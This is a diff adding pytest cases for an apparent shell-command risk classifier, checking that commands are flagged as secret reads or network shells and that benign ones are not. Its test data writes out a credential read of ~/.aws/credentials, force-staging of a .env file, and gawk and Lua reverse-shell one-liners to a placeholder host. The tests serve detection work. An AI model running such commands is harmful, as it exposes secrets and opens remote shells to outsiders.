@@ -267,3 +267,21 @@ def test_credential_printers_key_hunts_and_histories(command: str, kind: Kind) -
 )
 def test_reading_a_secret_manager_on_purpose_is_not_asked(command: str) -> None:
     assert not {Kind.SECRET_READ, Kind.NETWORK_EXFILTRATE} & kinds(command)
+
+
+@pytest.mark.parametrize(
+    ("command", "kind"),
+    [
+        ("cat $(echo ~/.aws/credentials)", Kind.SECRET_READ),
+        ("git add -f /p/.env", Kind.SECRET_READ),
+        ("gawk 'BEGIN {s=\"/inet/tcp/0/h/1\"; while ((s |& getline c) > 0) print c |& s}'", Kind.NETWORK_SHELL),
+        ("lua -e \"local s=require('socket').tcp(); s:connect('h',1); os.execute('/bin/sh')\"", Kind.NETWORK_SHELL),
+    ],
+)
+def test_secrets_named_in_substitutions_git_staging_and_more_remote_shells(command: str, kind: Kind) -> None:
+    assert kind in kinds(command)
+
+
+@pytest.mark.parametrize("command", ["git add src/app.py", "cat $(ls)", "awk -F, '{print $2}' data.csv"])
+def test_ordinary_staging_and_awk_are_not_flagged(command: str) -> None:
+    assert not {Kind.SECRET_READ, Kind.NETWORK_SHELL} & kinds(command)
